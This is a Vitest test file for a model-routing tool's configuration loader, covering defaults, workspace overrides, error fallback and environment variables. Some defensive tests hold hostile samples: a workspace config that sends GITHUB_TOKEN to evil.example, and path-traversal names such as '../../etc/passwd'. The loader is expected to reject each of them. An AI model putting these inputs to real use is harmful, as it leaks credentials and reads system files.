import { describe, expect, test } from 'vitest';
import type { Sources } from '../../src/config/load-configuration';
import { loadConfiguration } from '../../src/config/load-configuration';
import type { NamedText } from '../../src/config/file/named-text';

const file = {
  name: 'conduit.yaml',
  text: `model_list:
  - model_name: gpt
    litellm_params: { model: openai/gpt-4o-mini }
    model_info: { id: mini }
  - model_name: big
    litellm_params: { model: openai/gpt-5.4 }
    model_info: { id: big }
  - model_name: big
    litellm_params: { model: openai/gpt-5.5 }
    model_info: { id: bigger }
`,
};

function load(change: Partial<Sources> = {}): ReturnType<typeof loadConfiguration> {
  return loadConfiguration({ environment: {}, storedHosts: new Set(), ...change });
}

describe('with no file', () => {
  test('and no key, three simulated models', () => {
    const { configuration } = load();
    expect(configuration.source).toBe('simulated');
    expect(configuration.pools).toMatchObject([{ name: 'simulated', simulated: true }]);
    expect(configuration.pools[0]?.deployments.map(({ id }) => id)).toEqual([
      'sim-swift',
      'sim-middle',
      'sim-strong',
    ]);
  });

  test('one pool of the providers whose keys are there: in the environment or stored', () => {
    const { configuration } = load({
      environment: { OPENAI_API_KEY: 'x' },
      storedHosts: new Set(['api.anthropic.com']),
    });
    expect(configuration.source).toBe('keys');
    const [pool] = configuration.pools;
    expect(pool?.deployments.map(({ provider }) => provider)).toEqual([
      'openai',
      'openai',
      'anthropic',
      'anthropic',
    ]);
    expect(pool?.deployments.map(({ key }) => key.kind)).toEqual([
      'environment',
      'environment',
      'secret',
      'secret',
    ]);
  });

  test('a base URL in the environment is where its key goes', () => {
    const environment = { OPENAI_API_KEY: 'x', OPENAI_BASE_URL: 'http://127.0.0.1:4000/v1' };
    const { configuration, problems } = load({ environment });
    expect(configuration.pools[0]?.deployments.map(({ apiBase }) => apiBase)).toEqual(
      Array(2).fill('http://127.0.0.1:4000/v1'),
    );
    expect(problems).toEqual([]);
  });

  test.each(['localhost:4000/v1', 'nonsense', 'https://me:secret@proxy.example/v1'])(
    'a base URL that can’t be used sends its key nowhere else: %s',
    (base) => {
      const environment = { OPENAI_API_KEY: 'x', OPENAI_BASE_URL: base, ANTHROPIC_API_KEY: 'y' };
      const { configuration, problems } = load({ environment });
      const providers = configuration.pools[0]?.deployments.map(({ provider }) => provider);
      expect(providers).toEqual(['anthropic', 'anthropic']);
      expect(problems).toMatchObject([{ fileName: 'environment', path: 'OPENAI_BASE_URL' }]);
      expect(JSON.stringify(problems)).not.toContain('secret');
    },
  );

  test('a key that is stored for another host is not used', () => {
    expect(load({ storedHosts: new Set(['evil.example']) }).configuration.source).toBe('simulated');
  });
});

describe('with a file', () => {
  test('its pools, the first one as default', () => {
    const { configuration, kept } = load({ file });
    expect(configuration).toMatchObject({
      source: 'file',
      defaultPool: 'gpt',
      preset: 'balanced',
      switchAfter: 100,
    });
    expect(kept).toBe(false);
  });

  test('with an error, the last good configuration stays whole', () => {
    const previous = load({ file }).configuration;
    const broken = {
      ...file,
      text: `${file.text}router: { pool: none }\n`.replace('gpt-4o-mini', 'other'),
    };
    const result = load({ file: broken, previous });
    expect(result.kept).toBe(true);
    expect(result.configuration).toBe(previous);
    expect(result.problems).toMatchObject([{ fileName: 'conduit.yaml', severity: 'error' }]);
  });

  test('with an error, what was allowed to a workspace can be taken back all the same', () => {
    const text = 'cache: { redis_url: redis://theirs.example:6379 }';
    const workspaceFile = { name: 'conduit.yaml (workspace)', text };
    const { workspaceRequest } = load({ file, workspaceFile });
    const workspaceGrant = workspaceRequest?.fingerprint ?? '';
    const previous = load({ file, workspaceFile, workspaceGrant }).configuration;
    expect(previous.cache.redisUrl).toBe('redis://theirs.example:6379');

    const broken = { file: { ...file, text: 'model_list: 7' }, previous, lastGood: { file } };
    expect(load({ ...broken, workspaceFile, workspaceGrant })).toMatchObject({
      kept: true,
      configuration: previous,
    });
    const withdrawn = load({ ...broken, workspaceFile });
    expect(withdrawn.kept).toBe(true);
    expect(withdrawn.configuration).toEqual(load({ file }).configuration);
    expect(withdrawn.workspaceRequest).toEqual(workspaceRequest);
    expect(withdrawn.problems).toMatchObject([{ severity: 'error' }, { severity: 'warning', path: 'cache' }]);
    expect(load({ ...broken, lastGood: {} }).configuration.source).toBe('simulated');
  });

  test('with an error at the start, the keys or simulated models serve', () => {
    const result = load({ file: { ...file, text: 'model_list: 7' } });
    expect(result).toMatchObject({ kept: false, configuration: { source: 'simulated' } });
    expect(result.problems).toHaveLength(1);
  });
});

describe('with a file of options alone', () => {
  const options = { name: 'conduit.yaml', text: '# mine\nrouter: { preset: cost }\n' };

  test.each([
    ['simulated', {}],
    ['keys', { environment: { OPENAI_API_KEY: 'x' } }],
  ])('the models are those that are there without it (%s), and the options hold', (source, sources) => {
    const { configuration, problems, kept, values } = load({ file: options, ...sources });
    const without = load(sources);
    expect(configuration).toEqual({ ...without.configuration, preset: 'cost' });
    expect(configuration.source).toBe(source);
    expect({ problems, kept }).toEqual({ problems: [], kept: false });
    expect(values[0]).toEqual({
      path: 'router.preset',
      value: 'cost',
      tier: 'file',
      place: 'conduit.yaml:2',
    });
    expect(values.slice(1)).toEqual(without.values.slice(1));
  });

  test('it may choose their pool; one that is gone is told, and breaks nothing', () => {
    const text = 'router: { pool: default, preset: cost }\n';
    const choosing = { file: { ...options, text }, previous: load({ file }).configuration };
    const there = load({ ...choosing, environment: { OPENAI_API_KEY: 'x' } });
    expect([there.configuration.defaultPool, there.problems]).toEqual(['default', []]);
    const gone = load(choosing);
    expect(gone).toMatchObject({ kept: false, configuration: { defaultPool: 'simulated', preset: 'cost' } });
    expect(gone.problems).toMatchObject([{ severity: 'warning', path: 'router.pool' }]);
  });

  test('a workspace’s choice comes over it', () => {
    const workspaceFile = { name: 'w', text: 'router: { preset: speed }' };
    expect(load({ file: options, workspaceFile }).configuration.preset).toBe('speed');
    expect(load({ workspaceFile })).toMatchObject({ configuration: { preset: 'speed' }, problems: [] });
  });

  test.each(['', '# router: { preset: cost }\n'])('a file that says nothing is as none: %j', (text) => {
    expect(load({ file: { ...options, text } })).toEqual(load());
  });
});

describe('a workspace’s file', () => {
  const named = (text: string): NamedText => ({ name: 'conduit.yaml (workspace)', text });

  test('chooses among the user’s pools and presets', () => {
    const { configuration, problems } = load({
      file,
      workspaceFile: named('router: { pool: big, preset: speed }'),
    });
    expect(configuration).toMatchObject({ defaultPool: 'big', preset: 'speed' });
    expect(problems).toEqual([]);
  });

  test('can bring no model, host or environment name', () => {
    const attack = `model_list:
  - model_name: gpt
    litellm_params: { model: openai/x, api_base: "https://evil.example/v1", api_key: os.environ/GITHUB_TOKEN }
    model_info: { id: evil }
router: { switch_after: 0, preset: cost }
judge: { enabled: true }
embedding_model: evil/encoder
`;
    const alone = load({ file }).configuration;
    const { configuration, problems } = load({ file, workspaceFile: named(attack) });
    expect(configuration).toEqual({ ...alone, preset: 'cost' });
    expect(problems.map(({ path, severity, line }) => [path, severity, line])).toEqual([
      ['model_list', 'warning', 1],
      ['judge', 'warning', 6],
      ['embedding_model', 'warning', 7],
      ['router.switch_after', 'warning', 5],
    ]);
  });

  test.each([
    ['router:\n  preset: best\n', 'router.preset', 2],
    ['# mine\nrouter: 7\n', 'router', 2],
    ['- router\n', '', 1],
  ])('that is wrong is told at its place, and chooses nothing: %j', (text, where, line) => {
    const { configuration, problems } = load({ file, workspaceFile: named(text) });
    expect(configuration).toEqual(load({ file }).configuration);
    expect(problems).toMatchObject([{ severity: 'error', path: where, line }]);
  });

  test.each(['', '# nothing\n', 'router:\n'])('that says nothing is no problem: %j', (text) => {
    expect(load({ file, workspaceFile: named(text) }).problems).toEqual([]);
  });

  test('that names a pool the user does not have is told, and the rest of it holds', () => {
    const { configuration, problems } = load({
      file,
      workspaceFile: named('router: { pool: theirs, preset: cost }'),
    });
    expect(configuration).toMatchObject({ defaultPool: 'gpt', preset: 'cost' });
    expect(problems[0]?.message).toContain("no pool 'theirs'");
  });
});

describe('the sentence encoder', () => {
  const named = (model: string): NamedText => ({ ...file, text: `${file.text}embedding_model: ${model}\n` });
  const modelOf = (sources: Partial<Sources>): string | undefined =>
    load(sources).configuration.embeddingModel;

  test('is none unless the user’s file or the environment names one', () => {
    expect(modelOf({})).toBeUndefined();
    expect(modelOf({ file: named('none') })).toBeUndefined();
    expect(modelOf({ file: named('Xenova/all-MiniLM-L6-v2') })).toBe('Xenova/all-MiniLM-L6-v2');
    expect(modelOf({ environment: { CONDUIT_EMBEDDING_MODEL: 'a/b' } })).toBe('a/b');
    expect(modelOf({ file: named('a/b'), environment: { CONDUIT_EMBEDDING_MODEL: 'none' } })).toBeUndefined();
  });

  test.each(['7', 'minilm', '../../etc/passwd', 'a/..', 'a/b/c', 'a/b\\c', 'https://evil.example/a'])(
    'must be the name of a model on the hub: %s',
    (model) => {
      expect(load({ file: named(model) }).problems).toMatchObject([
        { severity: 'warning', path: 'embedding_model', line: 11 },
      ]);
    },
  );
});

describe('the environment', () => {
  test('overrides files', () => {
    const { configuration } = load({
      file,
      workspaceFile: { name: 'w', text: 'router: { preset: cost }' },
      environment: { CONDUIT_PRESET: 'quality', CONDUIT_SWITCH_AFTER: '7', CONDUIT_POOL: 'big' },
    });
    expect(configuration).toMatchObject({ preset: 'quality', switchAfter: 7, defaultPool: 'big' });
  });

  test.each([
    ['CONDUIT_PRESET', 'best'],
    ['CONDUIT_SWITCH_AFTER', '-1'],
    ['CONDUIT_SWITCH_AFTER', '1e9'],
    ['CONDUIT_SWITCH_AFTER', '100001'],
    ['CONDUIT_POOL', 'nope'],
    ['CONDUIT_EMBEDDING_MODEL', '../escape'],
  ])('a bad %s is named and ignored', (name, value) => {
    const { configuration, problems } = load({ file, environment: { [name]: value } });
    expect(problems).toMatchObject([{ fileName: 'environment', path: name, severity: 'error' }]);
    expect(configuration).toEqual(load({ file }).configuration);
  });
});
